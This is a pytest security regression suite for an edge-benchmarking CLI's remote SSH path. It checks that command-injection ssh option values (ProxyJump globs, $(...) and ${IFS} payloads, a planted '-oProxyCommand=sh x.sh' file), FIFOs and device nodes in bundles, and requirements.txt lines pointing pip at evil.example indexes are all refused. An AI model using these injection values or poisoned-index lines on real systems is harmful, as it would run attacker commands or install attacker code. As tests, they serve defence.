"""Issue 19, round two, the remote part: ``edgekit bench BUNDLE --host`` against a REAL sshd on
127.0.0.1 (tests/sshd_fixture.py), with hostile ssh option values, hostile bundles and a board
that stops answering.

1. An allow-listed ``--ssh-option`` key still carries a value: ``ProxyJump=*`` makes ssh run the
   jump through ``/bin/sh -c`` and the glob expands to a planted file named
   ``-oProxyCommand=sh x.sh`` in the working folder, which runs ``x.sh`` here. Every value must
   match its key's grammar (checked here against ``ssh -G``, the real parser), else exit 2 with
   one ``Error:`` line, no ssh started (the sshd log shows no login), the planted script's
   marker never created.
2. A FIFO, socket or device node in a bundle is refused before anything is sent (a FIFO used to
   block the copy forever), and ``--timeout`` bounds the whole remote run: a board that stops
   answering during the probe or the copy is given up on after ``--timeout``, not after 70 s or
   30 minutes.
3. A bundle whose requirements.txt carries pip options, or whose bundle.json tokens end in a
   newline, is refused before connecting (the install hint runs ``pip -r`` on that file).

Runs that could hang on the code before the fix run as a subprocess with a hard limit.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path
from types import SimpleNamespace

import pytest
from corpus.hostile import (
    assert_one_line_error,
    child_pids,
    lstat_tree,
    rehash_sums,
    rpi4_onnx_bundle,  # noqa: F401 - the bundle fixture
)
from hypothesis import given, settings
from hypothesis import strategies as st
from sshd_fixture import _wait_ready, procs_with, sshd, start_sshd  # noqa: F401 - sshd is a pytest fixture
from typer.testing import CliRunner

from edgekit.cli.app import app
from edgekit.core.errors import UsageError
from edgekit.remote.hosts import ALLOWED_SSH_OPTIONS, parse_ssh_option

runner = CliRunner()
FAST_CLI = ["--min-runs", "3", "--min-time", "0", "--warmup", "1", "--threads", "1"]
HUNG_LIMIT_S = 90.0  # a run that has not ended by then hung (the code before the fix: forever)


# ---------------------------------------------------------------- helpers


def logins(server) -> int:
    """Logins the real sshd accepted so far (its log): a refused run adds none."""
    return server.log.read_text(errors="replace").count("Accepted publickey")


def settle_children(before: set[int], within_s: float = 15.0) -> set[int]:
    """Descendants of this process that were not there ``before``, after ``within_s`` to exit
    (sshd's per-connection processes are children of the fixture's sshd)."""
    deadline = time.monotonic() + within_s
    while (extra := child_pids() - before) and time.monotonic() < deadline:
        time.sleep(0.2)
    return extra


def edgekit(args: list[str], cwd: Path, limit_s: float = HUNG_LIMIT_S) -> SimpleNamespace:
    """``python -m edgekit ARGS`` in its own session; killed (and the test failed) past ``limit_s``."""
    env = {**os.environ, "EDGEKIT_NO_PROGRESS": "1"}
    started = time.monotonic()
    proc = subprocess.Popen([sys.executable, "-m", "edgekit", *args], cwd=cwd, env=env, stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        out, err = proc.communicate(timeout=limit_s)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
        pytest.fail(f"edgekit {' '.join(args[:2])} was still running after {limit_s:g} s (hung); stderr: {err[-500:]}")
    return SimpleNamespace(exit_code=proc.returncode, stdout=out, stderr=err, seconds=time.monotonic() - started)


def plant(folder: Path, marker: Path) -> None:
    """The files an attacker leaves in the working folder: ``x.sh`` creates ``marker``, and a file
    whose name is an option of ssh that runs it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "x.sh").write_text(f"touch {marker}\n")
    (folder / "-oProxyCommand=sh x.sh").write_text("")


# ---------------------------------------------------------------- 1. ssh option values (HIGH)

# Values that reach a shell or a token expansion, for keys that are allowed. Each was accepted
# before the fix (only a leading '-' or a blank in ProxyJump was refused).
HOSTILE_OPTIONS = [
    # ProxyJump: ssh runs "ssh ... -W '[%h]:%p' HOST" through /bin/sh -c, HOST unquoted
    "ProxyJump=*", "ProxyJump=?*", "ProxyJump=[-]*", "ProxyJump=root@*", "ProxyJump=127.0.0.1,*",
    "ProxyJump=*:22", "ProxyJump=[*]", "ProxyJump=ssh://*", "ProxyJump=h;sh${IFS}x.sh", "ProxyJump=h|sh${IFS}x.sh",
    "ProxyJump=$(sh${IFS}x.sh)", "ProxyJump=`sh${IFS}x.sh`", "ProxyJump=h%h", "ProxyJump=[fe80::1%eth0]",
    "ProxyJump=::1", "ProxyJump=h:0", "ProxyJump=h:99999", "ProxyJump=a,,b", "ProxyJump=h&&sh${IFS}x.sh",
    # file-valued keys: ssh expands %tokens, ${ENV} and ~user in them
    "IdentityFile=%d/.ssh/id_ed25519", "IdentityFile=${HOME}/.ssh/id", "IdentityFile=~root/.ssh/id",
    "CertificateFile=-oProxyCommand=sh x.sh", "UserKnownHostsFile=%d/known_hosts",
    "GlobalKnownHostsFile=/dev/null${IFS}/tmp/x", "UserKnownHostsFile='/tmp/x'", "IdentityFile=a\\b",
    # names ssh may expand tokens in
    "User=%u", "User=$(sh${IFS}x.sh)", "HostKeyAlias=%h", "HostKeyAlias=-oProxyCommand=x",
    # yes/no, choices, numbers, algorithm lists, grammars
    "IdentitiesOnly=maybe", "Compression=%h", "StrictHostKeyChecking=always", "CheckHostIP=1",
    "Port=22;sh${IFS}x.sh", "Port=0", "ConnectTimeout=1e3", "ConnectTimeout=-1", "ConnectionAttempts=0",
    "ServerAliveInterval=99999999", "ServerAliveCountMax=x", "Ciphers=aes*", "MACs=hmac-sha2-256;x",
    "KexAlgorithms=$(sh${IFS}x.sh)", "HostKeyAlgorithms=ssh-ed25519,%h", "PubkeyAcceptedAlgorithms=*",
    "LogLevel=DEBUG9", "AddressFamily=unix", "UpdateHostKeys=always", "VerifyHostKeyDNS=%h",
    "IPQoS=af21,cs1", "IPQoS=256", "RekeyLimit=1G;1h", "RekeyLimit=%h", "PreferredAuthentications=none",
    "TCPKeepAlive=$(id)",
]


@pytest.mark.parametrize("option", HOSTILE_OPTIONS)
def test_hostile_ssh_option_values_are_refused_before_ssh_starts(option, sshd, bundle, tmp_path, monkeypatch):  # noqa: F811
    work, marker, board = tmp_path / "work", tmp_path / "PWNED", tmp_path / "board"
    plant(work, marker)
    monkeypatch.chdir(work)
    before_work, before_bundle, before_logins, before_children = lstat_tree(work), lstat_tree(bundle), logins(sshd), child_pids()
    result = runner.invoke(app, ["bench", str(bundle), *sshd.cli_args(), "--ssh-option", option,
                                 "--remote-dir", str(board), "--remote-python", sys.executable, *FAST_CLI, "-q"])
    assert not marker.exists(), "the planted script ran"
    assert_one_line_error(result, 2, "--ssh-option ")
    assert logins(sshd) == before_logins and not board.exists()  # no ssh was started
    assert lstat_tree(work) == before_work and lstat_tree(bundle) == before_bundle
    assert settle_children(before_children) == set()


def test_a_valid_proxyjump_is_passed_on_and_runs_nothing_local(sshd, bundle, tmp_path, monkeypatch):  # noqa: F811
    """Valid values still reach the board; a valid jump host is not globbed; then ``ProxyJump=*``
    in the same folder is refused (the code before the fix ran x.sh for it)."""
    from sshd_fixture import free_port

    work, marker, board = tmp_path / "work", tmp_path / "PWNED", tmp_path / "board"
    plant(work, marker)
    monkeypatch.chdir(work)
    before = child_pids()
    good = ["ConnectTimeout=20", "Compression=yes", "ServerAliveInterval=15", "IPQoS=af21 cs1", "RekeyLimit=1G 1h",
            "AddressFamily=inet", "PreferredAuthentications=publickey", "ProxyJump=none"]
    result = runner.invoke(app, ["bench", str(bundle), *sshd.cli_args(), *sum((["--ssh-option", o] for o in good), []),
                                 "--remote-dir", str(board), "--remote-python", sys.executable, *FAST_CLI, "-q"])
    assert result.exit_code == 0, result.stderr
    # a jump through a closed port: ssh really runs the jump (through its shell) and fails to connect
    result = runner.invoke(app, ["bench", str(bundle), *sshd.cli_args(), "--ssh-option", f"ProxyJump=127.0.0.1:{free_port()}",
                                 "--remote-dir", str(board), "--remote-python", sys.executable, "-q"])
    assert_one_line_error(result, 1)
    assert not marker.exists()
    result = runner.invoke(app, ["bench", str(bundle), *sshd.cli_args(), "--ssh-option", "ProxyJump=*",
                                 "--remote-dir", str(board), "--remote-python", sys.executable, "-q"])
    assert not marker.exists(), "the planted script ran"
    assert_one_line_error(result, 2, "ProxyJump")
    assert settle_children(before) == set()


# Values every allowed key must refuse: shell text, tokens, expansions, a leading option, blanks.
UNIVERSALLY_BAD = ["*", "%h", "${HOME}", "$(id)", "`id`", "a;b", "a|b", "-oProxyCommand=sh x.sh", "a b", "'x'", "x\\y"]

# Good values per key, all accepted by edgekit AND by ssh's own parser (ssh -G).
GOOD_VALUES = {
    "Port": ["22", "2222", "65535"], "User": ["pi", "first.last", "_svc-1"],
    "IdentityFile": ["~/.ssh/id_ed25519", "/home/pi/keys/id", "none", "keys/id_rsa"],
    "IdentitiesOnly": ["yes", "no"], "CertificateFile": ["~/.ssh/id_ed25519-cert.pub", "/etc/ssh/cert.pub"],
    "StrictHostKeyChecking": ["yes", "no", "ask", "accept-new", "off"],
    "UserKnownHostsFile": ["/dev/null", "~/.ssh/known_hosts_ci", "none"], "GlobalKnownHostsFile": ["/dev/null"],
    "HostKeyAlias": ["board-1", "pi.lan"], "HostKeyAlgorithms": ["ssh-ed25519", "+ssh-rsa", "^ssh-ed25519,rsa-sha2-512"],
    "CheckHostIP": ["yes", "no"], "ConnectTimeout": ["1", "30", "3600"], "ConnectionAttempts": ["1", "3"],
    "ServerAliveInterval": ["0", "15"], "ServerAliveCountMax": ["1", "3"], "TCPKeepAlive": ["yes", "no"],
    "Compression": ["yes", "no"], "LogLevel": ["QUIET", "ERROR", "verbose", "DEBUG3"],
    "AddressFamily": ["any", "inet", "inet6"], "Ciphers": ["aes128-ctr,aes256-gcm@openssh.com", "-aes128-cbc"],
    "MACs": ["hmac-sha2-256,umac-128@openssh.com"], "KexAlgorithms": ["curve25519-sha256", "-diffie-hellman-group1-sha1"],
    "PubkeyAcceptedAlgorithms": ["ssh-ed25519"], "PubkeyAcceptedKeyTypes": ["+ssh-rsa"],
    "PreferredAuthentications": ["publickey", "publickey,keyboard-interactive"],
    "ProxyJump": ["none", "pi@bastion", "pi@bastion:2222,10.0.0.1", "[::1]:22", "jump_host.lan"],
    "UpdateHostKeys": ["yes", "no", "ask"], "VerifyHostKeyDNS": ["yes", "no", "ask"],
    "RekeyLimit": ["default", "1G", "500M 1h", "default none", "1G 1h30m"], "IPQoS": ["af21", "af21 cs1", "lowdelay throughput", "0"],
}


def _ssh_accepts(option: str) -> bool:
    """The independent reference: ssh's own config parser (``ssh -G`` prints the config, connects nowhere)."""
    proc = subprocess.run(["ssh", "-G", "-F", "/dev/null", "-o", option, "board"], capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, timeout=30)
    return proc.returncode == 0


@pytest.mark.skipif(shutil.which("ssh") is None, reason="needs the OpenSSH client")
def test_every_allowed_key_checks_its_value():
    assert set(GOOD_VALUES) == set(ALLOWED_SSH_OPTIONS.values())  # a new key needs its grammar and a test
    for key, values in GOOD_VALUES.items():
        for value in values:
            assert parse_ssh_option(f"{key}={value}") == f"{key}={value}"
            assert _ssh_accepts(f"{key}={value}"), f"ssh itself refuses {key}={value}"
        for value in UNIVERSALLY_BAD:
            with pytest.raises(UsageError) as caught:
                parse_ssh_option(f"{key}={value}")
            assert str(caught.value).startswith("--ssh-option ") and "\n" not in str(caught.value)


SHELL_SAFE = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-@:[],")


@settings(max_examples=300, deadline=None)
@given(value=st.text(alphabet=st.sampled_from(sorted(SHELL_SAFE | set("*?%$`;|&'\"\\ ~/!#(){}<>=^+\t"))), max_size=40))
def test_an_accepted_proxyjump_holds_nothing_a_shell_or_ssh_expands(value):
    """ssh pastes the jump host into a shell command line: whatever is accepted is inert there."""
    try:
        option = parse_ssh_option(f"ProxyJump={value}")
    except UsageError:
        return
    hops = option.removeprefix("ProxyJump=")
    assert set(hops) <= SHELL_SAFE, hops
    assert not any(hop.startswith("-") or hop.split("@")[-1].startswith("-") for hop in hops.split(","))


# ---------------------------------------------------------------- 2. special files, and --timeout (MEDIUM)


def _fifo(folder: Path) -> str:
    os.mkfifo(folder / "stray.fifo")
    return "a named pipe"


def _nested_fifo(folder: Path) -> str:
    (folder / "wheels").mkdir(exist_ok=True)
    os.mkfifo(folder / "wheels" / "numpy-2.0-cp311-cp311-manylinux_2_28_aarch64.whl")
    return "a named pipe"


def _socket(folder: Path) -> str:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(folder / "board.sock"))
    sock.close()  # the socket file stays
    return "a socket"


def _char_device(folder: Path) -> str:
    try:
        os.mknod(folder / "null", 0o600 | stat.S_IFCHR, os.makedev(1, 3))  # what /dev/null is
    except (PermissionError, OSError) as exc:
        pytest.skip(f"cannot make a device node here: {exc}")
    return "a character device"


SPECIALS = {"fifo": _fifo, "fifo-in-wheels": _nested_fifo, "socket": _socket, "char-device": _char_device}


@pytest.mark.parametrize("kind", sorted(SPECIALS))
def test_special_files_in_a_bundle_are_refused_before_any_transfer(kind, sshd, bundle, tmp_path):  # noqa: F811
    hostile = tmp_path / "dist" / "rpi4"
    shutil.copytree(bundle, hostile)
    what = SPECIALS[kind](hostile)
    board = tmp_path / "board"
    before_tree, before_logins, before_children = lstat_tree(tmp_path / "dist"), logins(sshd), child_pids()
    result = edgekit(["bench", str(hostile), *sshd.cli_args(), "--remote-dir", str(board),
                      "--remote-python", sys.executable, "--timeout", "30", *FAST_CLI, "-q"], cwd=tmp_path)
    assert_one_line_error(result, 2, what)
    assert "a bundle holds plain files" in result.stderr
    assert logins(sshd) == before_logins and not board.exists()  # nothing was sent, nothing started there
    assert lstat_tree(tmp_path / "dist") == before_tree
    assert settle_children(before_children) == set()


@pytest.fixture(scope="module")
def stalling_sshd(tmp_path_factory):
    """A real sshd whose ForceCommand stops answering (sleeps, reading nothing) for the remote
    command holding the text in ``folder/hang-on``, and runs every other command normally."""
    from sshd_fixture import _die_with_parent, missing_tools

    reason = missing_tools()
    if reason:
        pytest.skip(reason)
    folder = tmp_path_factory.mktemp("stalling-sshd")
    server = start_sshd(folder)
    server.stop()
    token = f"edgekit-hang-{uuid.uuid4().hex[:10]}"
    force = folder / "force.sh"
    force.write_text(
        "#!/bin/sh\n"
        f'pattern=$(cat {folder / "hang-on"} 2>/dev/null)\n'
        'case "$SSH_ORIGINAL_COMMAND" in\n'
        f'  *"$pattern"*) [ -n "$pattern" ] && exec {sys.executable} -c "import time; time.sleep(120)" {token} ;;\n'
        "esac\n"
        'exec /bin/sh -c "$SSH_ORIGINAL_COMMAND"\n'
    )
    force.chmod(0o755)
    config = folder / "sshd_config"
    config.write_text(config.read_text() + f"ForceCommand {force}\n")
    with open(server.log, "ab") as log:
        server.process = subprocess.Popen(["/usr/sbin/sshd", "-D", "-e", "-f", str(config)], stdin=subprocess.DEVNULL,
                                          stdout=log, stderr=subprocess.STDOUT,
                                          env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")}, preexec_fn=_die_with_parent)
    if not _wait_ready(server.process, server.port, server.log):
        pytest.skip(f"the stalling sshd would not start: {server.log.read_text()[-300:]}")
    server.hang_token = token
    try:
        yield server
    finally:
        server.stop()


def _stop_hung(server) -> None:
    """Stop the sleepers this module's ForceCommand started (by pid)."""
    for line in procs_with(server.hang_token):
        try:
            os.kill(int(line.split()[0]), signal.SIGKILL)
        except (ProcessLookupError, ValueError):
            pass


# (the text of the remote command the board stops answering at, and the step it is)
STALLS = {"probe": "edgekit:no-tool", "copy": ".incoming."}


@pytest.mark.parametrize("step", sorted(STALLS))
def test_timeout_bounds_the_probe_and_the_copy_too(step, stalling_sshd, bundle, tmp_path):
    (stalling_sshd.folder / "hang-on").write_text(STALLS[step])
    board = tmp_path / "board"
    before_bundle, before_children = lstat_tree(bundle), child_pids()
    try:
        result = edgekit(["bench", str(bundle), *stalling_sshd.cli_args(), "--remote-dir", str(board),
                          "--remote-python", sys.executable, "--timeout", "3", *FAST_CLI, "-q"], cwd=tmp_path)
        assert procs_with(stalling_sshd.hang_token), f"the board did not stall in the {step} (test set-up)"
    finally:
        _stop_hung(stalling_sshd)
        (stalling_sshd.folder / "hang-on").write_text("")
    assert_one_line_error(result, 1, "did not finish within 3 s")
    # python's start and edgekit's imports come on top of the 3 s; the code before waited 70 s / 30 min
    assert result.seconds < 40, result.seconds
    assert lstat_tree(bundle) == before_bundle
    if board.exists():  # nothing half-copied under a bundle's name
        assert not [p for p in board.iterdir() if not p.name.startswith(".")], list(board.iterdir())
    assert settle_children(before_children) == set()


# ---------------------------------------------------------------- 3. hostile bundle inputs on the --host path


def _append_requirement(line: str):
    def edit(folder: Path) -> None:
        path = folder / "requirements.txt"
        path.write_text(path.read_text() + line)
    return edit


def _bundle_json(**changes):
    def edit(folder: Path) -> None:
        import json

        path = folder / "bundle.json"
        info = json.loads(path.read_text())
        info.update(changes)
        path.write_text(json.dumps(info))
    return edit


HOSTILE_BUNDLES = {
    "req-index-url-equals": (_append_requirement("--index-url=https://evil.example/simple\n"), "requirements.txt"),
    "req-short-i": (_append_requirement("-i https://evil.example/simple\n"), "requirements.txt"),
    "req-find-links": (_append_requirement("--find-links /tmp/evil-wheels\n"), "requirements.txt"),
    "req-url": (_append_requirement("numpy @ https://evil.example/numpy.whl\n"), "requirements.txt"),
    "req-continuation": (_append_requirement("onnx==1.0 \\\n--extra-index-url=https://evil.example\n"), "requirements.txt"),
    "target-newline": (_bundle_json(target="rpi4\n"), "target"),
    "variant-newline": (_bundle_json(variant="int8-static-onnx\n"), "variant"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_BUNDLES))
def test_hostile_bundle_files_are_refused_before_connecting(case, sshd, bundle, tmp_path):  # noqa: F811
    edit, message = HOSTILE_BUNDLES[case]
    hostile = tmp_path / "dist" / "rpi4"
    shutil.copytree(bundle, hostile)
    edit(hostile)
    rehash_sums(hostile)  # consistent with its SHA256SUMS: only reading it can tell
    board = tmp_path / "board"
    before_tree, before_logins, before_children = lstat_tree(tmp_path / "dist"), logins(sshd), child_pids()
    result = runner.invoke(app, ["bench", str(hostile), *sshd.cli_args(), "--remote-dir", str(board),
                                 "--remote-python", sys.executable, *FAST_CLI, "-q"])
    assert_one_line_error(result, 2, message)
    assert logins(sshd) == before_logins and not board.exists()
    assert lstat_tree(tmp_path / "dist") == before_tree
    assert settle_children(before_children) == set()
